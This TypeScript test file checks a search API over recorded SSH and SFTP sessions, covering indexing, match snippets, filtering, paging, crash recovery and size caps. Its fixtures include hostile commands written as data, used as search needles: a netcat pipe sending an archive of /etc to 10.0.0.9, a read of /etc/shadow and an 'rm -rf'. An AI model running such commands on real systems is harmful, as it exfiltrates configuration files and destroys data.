import fs from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { RecordingTextRepository } from '../../recordings/recording-text.repository.js';
import { TEXT_CAPS, extractText } from '../../recordings/text-extract.js';
import { DATABASES, type TestServer, startTestServer } from '../../test/harness.js';
import { enrolHost, recordSession } from '../../test/recorded-sessions.js';

type Hit = {
  t: number;
  kind: string;
  snippet: string;
  match_start: number;
  match_length: number;
  clipped_start: boolean;
  clipped_end: boolean;
};
type Found = {
  sessions: {
    recording: { id: string; host: { hostname: string } };
    hits: Hit[];
    hit_count: number;
    truncated: boolean;
  }[];
  next_cursor: string | null;
};

const transfer = (path: string, extra: Record<string, unknown> = {}) => ({
  type: 'file-transfer',
  protocol: 'sftp',
  op: 'write',
  path,
  direction: 'upload',
  bytes: 10,
  sha256: null,
  outcome: 'ok',
  ...extra,
});

describe.each(DATABASES)('search across recordings on %s', (kind) => {
  let server: TestServer;
  let admin: string;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    server = await startTestServer(kind);
    admin = await server.login();
    const web = await enrolHost(server, admin, 'web-01');
    const db = await enrolHost(server, admin, 'db-01');
    const motd = { o: 'welcome to the host\r\n' };
    ids.shell = await recordSession(server, web, 'alice@example.test', [
      motd,
      { o: '$ ' },
      { i: 'rm -rx' },
      { i: '\x7ff /tmp/build\r' },
      { wait: 30 },
      // The shell echoes in colour; the prompt's title is an OSC sequence.
      { o: '\x1b]0;alice@web-01: ~\x07\x1b[1;31mrm\x1b[0m -rf /tmp/build\r\n' },
      { wait: 30 },
      { o: 'copy  10%\rcopy 100%\r\n$ cat /etc/sha' },
      { o: 'dow\r\ncat: /etc/shadow: Permission denied\r\n' },
    ]);
    ids.sftp = await recordSession(server, db, 'bob@example.test', [
      motd,
      { m: { type: 'channel', kind: 'sftp' } },
      { m: transfer('/srv/dumps/backup.sql', { op: 'read', direction: 'download' }) },
      { m: transfer('/tmp/a.sql', { op: 'rename', target: '/srv/dumps/Backup.SQL.old', direction: null }) },
    ]);
    ids.exec = await recordSession(server, db, 'bob@example.test', [
      motd,
      { m: { type: 'channel', kind: 'exec', command: 'tar czf - /etc | nc 10.0.0.9 9' } },
      { o: "tar: Removing leading `/' from member names\n" },
    ]);
    ids.literal = await recordSession(server, web, 'carol@example.test', [
      motd,
      { o: 'progress 100% done_ok \\server\\share <b>bold</b>\r\n' },
      { o: 'progress 1000 doneXok\r\n' },
    ]);
    await server.services.textIndexer.idle();
  }, 120_000);
  afterAll(async () => server.stop());

  const search = (query: string, token = admin) =>
    server.call<Found>('GET', `/api/recording/search?${query}`, { token });
  const sessionsOf = (found: Found) => found.sessions.map((s) => s.recording.id);

  it('finds a command printed with colour codes, with a snippet that marks the match and the time of the line', async () => {
    const res = await search('q=RM%20-RF');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(sessionsOf(res.body)).toEqual([ids.shell]);
    const [session] = res.body.sessions;
    expect(session?.recording.host.hostname).toBe('web-01');
    const output = session?.hits.find((h) => h.kind === 'output');
    expect(output?.snippet).toBe('$ rm -rf /tmp/build');
    expect(output?.snippet.slice(output.match_start, output.match_start + output.match_length)).toBe('rm -rf');
    // Typed input (capture on) is indexed too, with backspace applied.
    expect(session?.hits.find((h) => h.kind === 'input')?.snippet).toBe('rm -rf /tmp/build');
    expect(session?.hit_count).toBe(2);
    expect(output!.t).toBeGreaterThan(0.02);
    expect(output!.t).toBeLessThan(30);
  });

  it('finds text split across output events, and a progress line in its last state only', async () => {
    expect(sessionsOf((await search('q=cat%20/etc/shadow')).body)).toEqual([ids.shell]);
    expect((await search('q=/etc/shadow')).body.sessions[0]?.hit_count).toBe(2);
    expect(sessionsOf((await search('q=copy%20100%25')).body)).toEqual([ids.shell]);
    expect((await search('q=copy%20%2010%25')).body.sessions).toEqual([]);
    // The OSC title is not text.
    expect((await search('q=alice@web')).body.sessions).toEqual([]);
  });

  it('finds transferred files by path and rename target, as kind file', async () => {
    const res = await search('q=backup.sql');
    expect(sessionsOf(res.body)).toEqual([ids.sftp]);
    expect(res.body.sessions[0]?.hits.map((h) => [h.kind, h.snippet])).toEqual([
      ['file', '/srv/dumps/backup.sql'],
      ['file', '/srv/dumps/Backup.SQL.old'],
    ]);
  });

  it('finds an exec channel’s command as kind command, and filters by kind', async () => {
    expect(sessionsOf((await search('q=nc%2010.0.0.9')).body)).toEqual([ids.exec]);
    expect((await search('q=nc%2010.0.0.9&kind=command')).body.sessions[0]?.hits[0]?.kind).toBe('command');
    expect((await search('q=nc%2010.0.0.9&kind=output,file')).body.sessions).toEqual([]);
    expect(sessionsOf((await search('q=rm%20-rf&kind=input')).body)).toEqual([ids.shell]);
    expect((await search('q=rm%20-rf&kind=input')).body.sessions[0]?.hits.map((h) => h.kind)).toEqual(['input']);
    expect((await search('q=rm%20-rf&kind=shell')).status).toBe(400);
  });

  it('matches %, _ and backslash literally', async () => {
    expect(sessionsOf((await search('q=100%25%20done_ok')).body)).toEqual([ids.literal]);
    expect((await search('q=done_ok')).body.sessions[0]?.hit_count).toBe(1);
    expect((await search('q=%25%25%25')).body.sessions).toEqual([]);
    expect((await search('q=___')).body.sessions).toEqual([]);
    expect(sessionsOf((await search(`q=${encodeURIComponent('\\server\\share')}`)).body)).toEqual([ids.literal]);
    expect(sessionsOf((await search(`q=${encodeURIComponent('<b>bold</b>')}`)).body)).toEqual([ids.literal]);
  });

  it('answers hostile or malformed input with 400 and a message, never 500', async () => {
    for (const q of ['', 'a', '  ', 'rm\r\n-rf', 'a\u0000b', 'x'.repeat(201), 'x'.repeat(10_240)]) {
      const res = await search(`q=${encodeURIComponent(q)}`);
      expect(res.status, q.slice(0, 20)).toBe(400);
      expect(JSON.stringify(res.body)).toMatch(/q /);
    }
    expect((await search('')).status).toBe(400);
    expect((await search('q=rm-rf&limit=0')).status).toBe(400);
    expect((await search('q=rm-rf&limit=51')).status).toBe(400);
    expect((await search('q=rm-rf&since=yesterday')).status).toBe(400);
    expect((await search('q=rm-rf&cursor=bm9wZQ')).status).toBe(400);
    const cursor = (parts: unknown) => Buffer.from(JSON.stringify(parts)).toString('base64url');
    for (const parts of [
      ['2024-01-01', 'x'],
      ['2024-02-31 00:00:00+00', ids.shell],
      ['99999999999999999999', ids.shell],
      ['1', 'not-a-uuid-but-36-characters-long-xx'],
      [1, ids.shell],
      ['1', '-'.repeat(36)],
    ])
      expect((await search(`q=rm-rf&cursor=${cursor(parts)}`)).status, JSON.stringify(parts)).toBe(400);
    expect((await server.call('GET', '/api/recording/search?q=rm')).status).toBe(401);
  });

  it('pages newest first with a cursor, without gaps or repeats, within since and until', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: { status: number; body: Found } = await search(
        `q=welcome&limit=1${cursor ? `&cursor=${cursor}` : ''}`,
      );
      expect(res.status).toBe(200);
      expect(res.body.sessions.length).toBeLessThanOrEqual(1);
      seen.push(...sessionsOf(res.body));
      cursor = res.body.next_cursor;
    } while (cursor);
    expect(seen).toEqual([ids.literal, ids.exec, ids.sftp, ids.shell]);
    expect((await search('q=welcome&limit=3')).body.sessions).toHaveLength(3);
    expect((await search('q=rm%20-rf&until=2021-01-01')).body.sessions).toEqual([]);
    const recent = new Date(Date.now() - 600_000).toISOString();
    expect((await search(`q=rm%20-rf&since=${recent}`)).body.sessions).toHaveLength(1);
  });

  it('indexes recordings that ended before the index existed, in the background, once', async () => {
    const lines = async () =>
      (
        await server.services.database.query<{ n: number }>(
          'SELECT count(*)::int AS n FROM recording_text WHERE recording_id = $1',
          [ids.sftp],
        )
      )[0]?.n;
    const before = await lines();
    expect(before).toBeGreaterThanOrEqual(3);
    // Forget the index of two recordings: as after an upgrade, the sweep finds and indexes them.
    for (const table of ['recording_text', 'recording_text_state'])
      await server.services.database.query(`DELETE FROM ${table} WHERE recording_id = ANY($1::uuid[])`, [
        [ids.sftp, ids.exec],
      ]);
    expect((await search('q=backup.sql')).body.sessions).toEqual([]);
    await server.services.textIndexer.sweep();
    expect(sessionsOf((await search('q=backup.sql')).body)).toEqual([ids.sftp]);
    expect(await lines()).toBe(before);
    // A second sweep finds nothing left to do: each recording is indexed once.
    await server.services.textIndexer.sweep();
    expect(await lines()).toBe(before);
  });

  it('indexes a recording recovered after its server died, with what reached the disk', async () => {
    const host = await enrolHost(server, admin, 'crash-01');
    const live = await server.services.recordings.start({
      type: 'ssh',
      agentId: host.agentId,
      hostname: host.hostname,
      userId: null,
      userEmail: 'dave@example.test',
      definitionId: host.definitionId,
      definitionName: 'crash-01 shell',
      width: 80,
      height: 24,
    });
    live.recorder.output(Buffer.from('$ echo crash-needle-42\r\ncrash-needle-42\r\n'));
    await live.recorder.flush();
    // The process holding it dies: its instance is gone, and this one no longer holds it live.
    const gone = crypto.randomUUID();
    await server.services.database.query(
      "INSERT INTO server_instances (id, host, pid, gone_at) VALUES ($1, 'gone', 1, now())",
      [gone],
    );
    await server.services.database.query('UPDATE recordings SET instance_id = $2 WHERE id = $1', [live.id, gone]);
    (server.services.recordings as unknown as { live: Map<string, unknown> }).live.delete(live.id);
    await vi.waitFor(
      async () => {
        const row = await server.services.repositories.recordings.find(live.id);
        expect(row?.chunks).toBeGreaterThan(0);
      },
      { timeout: 5000 },
    );
    expect(await server.services.recordings.recoverOrphans(0)).toBeGreaterThanOrEqual(1);
    expect((await server.services.repositories.recordings.find(live.id))?.endReason).toBe('recovered');
    await server.services.textIndexer.idle();
    const found = await search('q=crash-needle-42');
    expect(sessionsOf(found.body)).toEqual([live.id]);
    expect(found.body.sessions[0]?.hit_count).toBe(2);
  });

  it('lets exactly one of two claimants index a recording, and a takeover only after the claim is stale', async () => {
    const text = new RecordingTextRepository(server.services.database);
    await server.services.database.query('DELETE FROM recording_text_state WHERE recording_id = $1', [ids.exec]);
    const claims = await Promise.all(['a', 'b', 'c', 'd'].map((who) => text.claim(ids.exec!, `indexer:${who}`)));
    expect(claims.filter(Boolean)).toHaveLength(1);
    const winner = `indexer:${'abcd'[claims.indexOf(true)]}`;
    const loser = winner === 'indexer:a' ? 'indexer:b' : 'indexer:a';
    expect(await text.claimBacklog(loser, 100)).not.toContain(ids.exec);
    expect(await text.store(ids.exec!, loser, [{ t: 0, kind: 'output', text: 'forged' }], false)).toBe(false);
    // The winner dies: once its claim is stale another instance takes the recording over.
    await server.services.database.query(
      "UPDATE recording_text_state SET claimed_at = now() - interval '1 day' WHERE recording_id = $1",
      [ids.exec],
    );
    expect(await text.claimBacklog(loser, 100)).toEqual([ids.exec]);
    expect(await text.store(ids.exec!, winner, [{ t: 0, kind: 'output', text: 'late' }], false)).toBe(false);
    expect(await text.store(ids.exec!, loser, [{ t: 0, kind: 'command', text: 'nc 10.0.0.9' }], false)).toBe(true);
    expect(await text.claim(ids.exec!, winner)).toBe(false);
    expect((await search('q=late')).body.sessions).toEqual([]);
    expect(sessionsOf((await search('q=nc%2010.0.0.9')).body)).toEqual([ids.exec]);
  });

  it('serves the search from the trigram index', async () => {
    const plan = await server.services.database.transaction(async (tx) => {
      await tx.query('SET LOCAL enable_seqscan = off');
      return tx.query<Record<string, string>>('EXPLAIN SELECT recording_id FROM recording_text WHERE text ILIKE $1', [
        RecordingTextRepository.pattern('backup.sql'),
      ]);
    });
    expect(plan.map((r) => Object.values(r)[0]).join('\n')).toContain('recording_text_trgm_idx');
  });

  it('keeps the trigram index’s pending list at 256 kB, so no insert merges 4 MB of it at once', async () => {
    const [row] = await server.services.database.query<{ reloptions: string[] | null }>(
      `SELECT reloptions FROM pg_class WHERE oid = to_regclass('recording_text_trgm_idx')`,
    );
    expect(row?.reloptions).toContain('gin_pending_list_limit=256');
  });

  it('caps the text indexed per recording and says so, reading the file in bounded memory', async () => {
    const web = await enrolHost(server, admin, 'big-01');
    const line = `${'y'.repeat(1000)}\r\n`;
    const chunk = line.repeat(1024);
    const steps = Array.from({ length: Math.ceil(TEXT_CAPS.output / chunk.length) + 2 }, () => ({ o: chunk }));
    const id = await recordSession(server, web, 'erin@example.test', [
      ...steps,
      { o: 'the end needle\r\n' },
      { m: transfer('/after/the/cap.sql') },
    ]);
    await server.services.textIndexer.idle();
    const found = await search('q=cap.sql');
    expect(sessionsOf(found.body)).toEqual([id]);
    expect(found.body.sessions[0]?.truncated).toBe(true);
    expect((await search('q=end%20needle')).body.sessions).toEqual([]);
    const row = await server.services.repositories.recordings.find(id);
    const extracted = await extractText(row!.storagePath);
    const outputChars = extracted.entries.filter((e) => e.kind === 'output').reduce((n, e) => n + e.text.length, 0);
    expect(outputChars).toBeLessThanOrEqual(TEXT_CAPS.output + 2000);
    expect((await fs.stat(row!.storagePath)).size).toBeGreaterThan(TEXT_CAPS.output);
  }, 120_000);
});
